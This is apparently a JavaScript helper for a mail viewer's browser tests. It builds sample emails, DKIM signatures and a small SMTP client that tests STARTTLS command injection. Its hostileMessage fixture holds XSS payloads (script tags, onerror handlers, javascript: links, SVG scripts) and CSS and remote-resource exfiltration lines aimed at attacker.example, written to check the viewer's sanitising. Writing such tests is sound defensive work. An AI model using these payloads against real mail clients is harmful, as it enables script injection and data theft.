// mail.mjs: the messages the browser tests send, and a tiny SMTP client for
// what swaks cannot do (STARTTLS with commands pipelined behind it, many
// messages on one connection, a TLS ClientHello on a plaintext port).

import crypto from 'node:crypto';
import net from 'node:net';
import tls from 'node:tls';
import zlib from 'node:zlib';


// A 16x16 blue square with a white bar (the "logo" shown through cid:).
export const PNG_LOGO = makePng(16, 16, (x, y) => (y >= 6 && y <= 9 && x >= 3 && x <= 12 ? [255, 255, 255] : [37, 71, 201]));

/** A real RGB PNG, made here (no image files in the repository). */
export function makePng(w, h, pixel) {
	const raw = Buffer.alloc(h * (1 + 3 * w));
	for (let y = 0; y < h; y++) {
		raw[y * (1 + 3 * w)] = 0; // filter: none
		for (let x = 0; x < w; x++) {
			const [r, g, b] = pixel(x, y);
			raw.set([r, g, b], y * (1 + 3 * w) + 1 + 3 * x);
		}
	}
	const chunk = (type, data) => {
		const len = Buffer.alloc(4);
		len.writeUInt32BE(data.length);
		const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
		const crc = Buffer.alloc(4);
		crc.writeUInt32BE(crc32(td));
		return Buffer.concat([len, td, crc]);
	};
	const ihdr = Buffer.alloc(13);
	ihdr.writeUInt32BE(w, 0);
	ihdr.writeUInt32BE(h, 4);
	ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
	return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk('IHDR', ihdr),
		chunk('IDAT', zlib.deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}

function crc32(buf) {
	let c = ~0;
	for (const byte of buf) {
		c ^= byte;
		for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
	}
	return ~c >>> 0;
}

/** The attachment's bytes: every byte value, so any corruption on the way shows. */
export const REPORT_BYTES = Buffer.from(Array.from({length: 1000}, (_, i) => (i * 37 + 11) % 256));

export const OTP_CODE = '739214';
export const OTP_SUBJECT = 'Your Acme verification code';
export const RESET_URL = 'https://acme.example.test/account/reset-password?token=r3s3t';

function b64lines(buf) {
	return buf.toString('base64').replace(/.{76}/g, '$&\r\n');
}

function date() {
	return new Date().toUTCString().replace('GMT', '+0000');
}

/**
 * multipart/mixed { multipart/related { multipart/alternative { text, html }, logo.png (cid) }, report.bin }.
 * The HTML shows the logo through cid: and has one remote image on imageBase (a loopback server).
 */
export function otpMessage({to, imageBase}) {
	const html = `<!doctype html>
<html><head><meta charset="utf-8"><style>
body { font-family: Helvetica, Arial, sans-serif; color: #1f2430; background: #f4f5f8; margin: 0; padding: 24px; }
.card { max-width: 520px; margin: 0 auto; background: #fff; border-radius: 10px; padding: 28px 32px; border: 1px solid #e3e6ec; }
.code { font-size: 34px; letter-spacing: 8px; font-weight: bold; background: #eef2ff; color: #2547c9; padding: 10px 16px; border-radius: 8px; display: inline-block; }
.foot { color: #7a8292; font-size: 12px; margin-top: 24px; }
</style></head>
<body><div class="card">
<p><img id="cidimg" src="cid:logo@acme.example.test" alt="Acme" width="32" height="32"> <b>Acme</b></p>
<h1>Sign in to Acme</h1>
<p>Hi Alice, here is your verification code:</p>
<p class="code">${OTP_CODE}</p>
<p>It expires in 10 minutes. If this was not you, <a href="${RESET_URL}">reset your password</a>.</p>
<p><img id="remoteimg" src="${imageBase}/banner.png?m=otp" alt="(remote banner)" width="120" height="12"></p>
<p class="foot">Acme Inc. &middot; <a href="https://acme.example.test/unsubscribe?u=42">Unsubscribe</a></p>
</div></body></html>`;
	const text = `Hi Alice,

Your verification code is ${OTP_CODE}. It expires in 10 minutes.
If this was not you, reset your password: ${RESET_URL}
`;
	return [
		'From: "Acme Accounts" <accounts@acme.example.test>',
		'To: <' + to + '>',
		'Subject: ' + OTP_SUBJECT,
		'Date: ' + date(),
		'Message-ID: <otp-' + Date.now() + '@acme.example.test>',
		'MIME-Version: 1.0',
		'Content-Type: multipart/mixed; boundary="mixed-1"',
		'',
		'--mixed-1',
		'Content-Type: multipart/related; boundary="rel-1"; type="multipart/alternative"',
		'',
		'--rel-1',
		'Content-Type: multipart/alternative; boundary="alt-1"',
		'',
		'--alt-1',
		'Content-Type: text/plain; charset=utf-8',
		'Content-Transfer-Encoding: 8bit',
		'',
		text,
		'--alt-1',
		'Content-Type: text/html; charset=utf-8',
		'Content-Transfer-Encoding: 8bit',
		'',
		html,
		'--alt-1--',
		'',
		'--rel-1',
		'Content-Type: image/png; name="logo.png"',
		'Content-Transfer-Encoding: base64',
		'Content-ID: <logo@acme.example.test>',
		'Content-Disposition: inline; filename="logo.png"',
		'',
		b64lines(PNG_LOGO),
		'--rel-1--',
		'',
		'--mixed-1',
		'Content-Type: application/octet-stream; name="report.bin"',
		'Content-Transfer-Encoding: base64',
		'Content-Disposition: attachment; filename="report.bin"',
		'',
		b64lines(REPORT_BYTES),
		'--mixed-1--',
		'',
	].join('\r\n');
}

export const HOSTILE_SUBJECT = '<img src=x onerror=alert(1)>';
export const HOSTILE_NAME = '<img src=x onerror=alert(2)>';
export const HOSTILE_FILE_1 = '<img src=x onerror=alert(3)>.svg';
export const HOSTILE_FILE_2 = '"><script>window.__pwned=1</script>.html';
export const HOSTILE_TEXT = '<script>window.__pwned=1;alert(7)</script> and <b>not bold</b>';

const EVIL_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(8)">' +
	'<script>window.parent.__pwned=1;alert(8)</script><rect width="10" height="10" fill="red"/></svg>';

/**
 * Every trick a hostile sender might try: scripts, handlers, javascript: links, meta refresh,
 * <base>, remote CSS, fonts and images (CSS exfiltration), SVG with script (inline, via cid:,
 * and attached), frames, objects, forms; and markup in the subject, the From name and filenames.
 * Nothing may run, nothing may load from attacker.example, and the markup must show as text.
 */
export function hostileMessage({to}) {
	const mark = "document.documentElement.setAttribute('data-pwned','1')";
	const html = `<html><head>
<meta http-equiv="refresh" content="0;url=https://attacker.example/refresh">
<base href="https://attacker.example/base/">
<link rel="stylesheet" href="https://attacker.example/style.css">
<style>@import url("https://attacker.example/import.css");</style>
<style>
@font-face { font-family: leak; src: url(https://attacker.example/font.woff2); }
body { background: url(https://attacker.example/css-bg.png); font-family: leak; }
input[value^="s"] { background-image: url("https://attacker.example/exfil?v=s"); }
</style>
<script>window.parent.__pwned=1; ${mark}; alert(10)</script>
<script src="https://attacker.example/x.js"></script>
</head>
<body onload="window.parent.__pwned=1; ${mark}">
<h1 id="hostile-h1">Hostile body</h1>
<img src=x onerror="window.parent.__pwned=1; ${mark}; alert(4)">
<img src="https://attacker.example/pixel.gif" alt="remote">
<img src="cid:evil-svg@attacker.example" alt="svg through cid">
<p><a id="jslink" href="javascript:window.parent.__pwned=1;alert(5)">click me (javascript:)</a></p>
<p><a id="datalink" href="data:text/html,<script>alert(11)</script>">data link</a></p>
<div style="background:url('https://attacker.example/inline-bg.png')">styled div</div>
<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="window.parent.__pwned=1"><script>window.parent.__pwned=1; ${mark}; alert(6)</script>
<image href="https://attacker.example/svg-image.png" width="10" height="10"/></svg>
<iframe src="https://attacker.example/frame"></iframe>
<object data="https://attacker.example/object.swf"></object>
<embed src="https://attacker.example/embed.swf">
<video poster="https://attacker.example/poster.png"></video>
<form action="https://attacker.example/form"><input name="q" value="secret"><button id="hform">go</button></form>
</body></html>`;
	return [
		'From: "' + HOSTILE_NAME + '" <evil@attacker.example>',
		'To: <' + to + '>',
		'Subject: ' + HOSTILE_SUBJECT,
		'Date: ' + date(),
		'MIME-Version: 1.0',
		'Content-Type: multipart/mixed; boundary="hx"',
		'',
		'--hx',
		'Content-Type: multipart/alternative; boundary="ha"',
		'',
		'--ha',
		'Content-Type: text/plain; charset=utf-8',
		'',
		HOSTILE_TEXT,
		'--ha',
		'Content-Type: text/html; charset=utf-8',
		'',
		html,
		'--ha--',
		'',
		'--hx',
		'Content-Type: image/svg+xml',
		'Content-ID: <evil-svg@attacker.example>',
		'Content-Disposition: inline',
		'',
		EVIL_SVG,
		'--hx',
		'Content-Type: image/svg+xml; name="evil.svg"',
		'Content-Disposition: attachment; filename="' + HOSTILE_FILE_1 + '"',
		'',
		EVIL_SVG,
		'--hx',
		'Content-Type: text/html',
		// RFC 2231, so the quote and angle brackets survive header syntax.
		"Content-Disposition: attachment; filename*=UTF-8''" + encodeURIComponent(HOSTILE_FILE_2).replace(/'/g, '%27'),
		'',
		'<script>window.__pwned=1</script>',
		'--hx--',
		'',
	].join('\r\n');
}

export function plainMessage({to, subject, body, from = 'reports@example.test'}) {
	return [
		'From: ' + from,
		'To: ' + to,
		'Subject: ' + subject,
		'Date: ' + date(),
		'MIME-Version: 1.0',
		'Content-Type: text/plain; charset=utf-8',
		'',
		body,
		'',
	].join('\r\n');
}

// ---- DKIM, signed here (not by mailscope) ----

// A key pair for DKIM and its DNS record ("v=DKIM1; k=rsa; p=..."), for a --dns-cache file.
export function dkimKey() {
	const {privateKey, publicKey} = crypto.generateKeyPairSync('rsa', {modulusLength: 2048});
	const der = publicKey.export({type: 'spki', format: 'der'});
	return {privateKey, record: 'v=DKIM1; k=rsa; p=' + der.toString('base64')};
}

// RFC 6376 3.4.2 and 3.4.4 (relaxed/relaxed), written out as the Python tests do.
function relaxedHeader(name, value) {
	return name.trim().toLowerCase() + ':' + value.replace(/\r\n/g, '').replace(/[ \t]+/g, ' ').trim();
}

function relaxedBody(body) {
	const lines = body.split('\r\n').map((l) => l.replace(/[ \t]+/g, ' ').replace(/ +$/, ''));
	while (lines.length && lines[lines.length - 1] === '') lines.pop();
	return lines.map((l) => l + '\r\n').join('');
}

/** message (CRLF lines) with a DKIM-Signature (rsa-sha256, relaxed/relaxed, h=from:to:subject) on top. */
export function dkimSign(message, privateKey, domain, selector) {
	const [head, body] = [message.slice(0, message.indexOf('\r\n\r\n')), message.slice(message.indexOf('\r\n\r\n') + 4)];
	const fields = new Map();
	for (const f of head.split(/\r\n(?![ \t])/)) {
		const i = f.indexOf(':');
		fields.set(f.slice(0, i).trim().toLowerCase(), [f.slice(0, i), f.slice(i + 1)]);
	}
	const signed = ['from', 'to', 'subject'];
	const bh = crypto.createHash('sha256').update(relaxedBody(body)).digest('base64');
	const value = ' v=1; a=rsa-sha256; c=relaxed/relaxed; d=' + domain + '; s=' + selector + ';\r\n\th=' +
		signed.join(':') + '; bh=' + bh + ';\r\n\tb=';
	const data = signed.map((h) => relaxedHeader(...fields.get(h)) + '\r\n').join('') + relaxedHeader('DKIM-Signature', value);
	const b = crypto.sign('sha256', Buffer.from(data), privateKey).toString('base64');
	return 'DKIM-Signature:' + value + b + '\r\n' + message;
}

// ---- a small SMTP client ----

class Replies {
	constructor(sock) {
		this.buf = '';
		this.waiters = [];
		this.attach(sock);
	}

	attach(sock) {
		this.sock = sock;
		sock.setEncoding('latin1');
		sock.on('data', (d) => {
			this.buf += d;
			this.pump();
		});
	}

	pump() {
		while (this.waiters.length) {
			// A reply ends with a line "NNN text" (no dash after the code).
			const m = /^((?:\d{3}-[^\n]*\n)*\d{3}(?: [^\n]*)?\r?\n)/.exec(this.buf);
			if (!m) return;
			this.buf = this.buf.slice(m[1].length);
			this.waiters.shift()(m[1]);
		}
	}

	next() {
		return new Promise((resolve) => {
			this.waiters.push(resolve);
			this.pump();
		});
	}
}

async function expect(replies, code, what) {
	const r = await replies.next();
	if (!r.startsWith(String(code))) throw new Error(what + ': expected ' + code + ', got ' + r.trim());
	return r;
}

function dotStuff(data) {
	return data.replace(/\r?\n/g, '\r\n').replace(/^\./gm, '..') + (data.endsWith('\n') ? '' : '\r\n') + '.\r\n';
}

/**
 * One connection, several messages. Options: injectStarttls (send "STARTTLS\r\nNOOP\r\n" in one write,
 * then go on inside TLS: the server records starttls_injection_attempt), from, to, messages (strings).
 */
export async function smtpSend({port, to, from = 'app@example.com', messages, injectStarttls = false}) {
	let sock = net.connect(port, '127.0.0.1');
	await new Promise((res, rej) => sock.once('connect', res).once('error', rej));
	const replies = new Replies(sock);
	const send = (s) => sock.write(s, 'latin1');
	await expect(replies, 220, 'greeting');
	send('EHLO e2e.example.test\r\n');
	await expect(replies, 250, 'EHLO');
	if (injectStarttls) {
		send('STARTTLS\r\nNOOP\r\n');
		await expect(replies, 220, 'STARTTLS');
		sock.removeAllListeners('data');
		const secure = tls.connect({socket: sock, rejectUnauthorized: false, servername: 'localhost'});
		await new Promise((res, rej) => secure.once('secureConnect', res).once('error', rej));
		replies.buf = '';
		replies.attach(secure);
		sock = secure;
		send('EHLO e2e.example.test\r\n');
		await expect(replies, 250, 'EHLO after STARTTLS');
	}
	const ids = [];
	for (const data of messages) {
		send('MAIL FROM:<' + from + '>\r\n');
		await expect(replies, 250, 'MAIL');
		send('RCPT TO:<' + to + '>\r\n');
		await expect(replies, 250, 'RCPT');
		send('DATA\r\n');
		await expect(replies, 354, 'DATA');
		send(dotStuff(data));
		const r = await expect(replies, 250, 'end of data');
		const m = /queued as (\S+)/.exec(r);
		ids.push(m ? m[1] : null);
	}
	send('QUIT\r\n');
	await expect(replies, 221, 'QUIT');
	sock.end();
	return ids;
}

/** A client configured for implicit TLS on a STARTTLS port: its ClientHello is all the server sees. */
export function tlsHelloOnPlaintextPort(port) {
	return new Promise((resolve) => {
		const s = tls.connect({host: '127.0.0.1', port, rejectUnauthorized: false, servername: 'localhost'});
		const done = () => {
			s.destroy();
			resolve();
		};
		s.once('error', done);
		s.once('close', done);
		s.setTimeout(5000, done);
	});
}
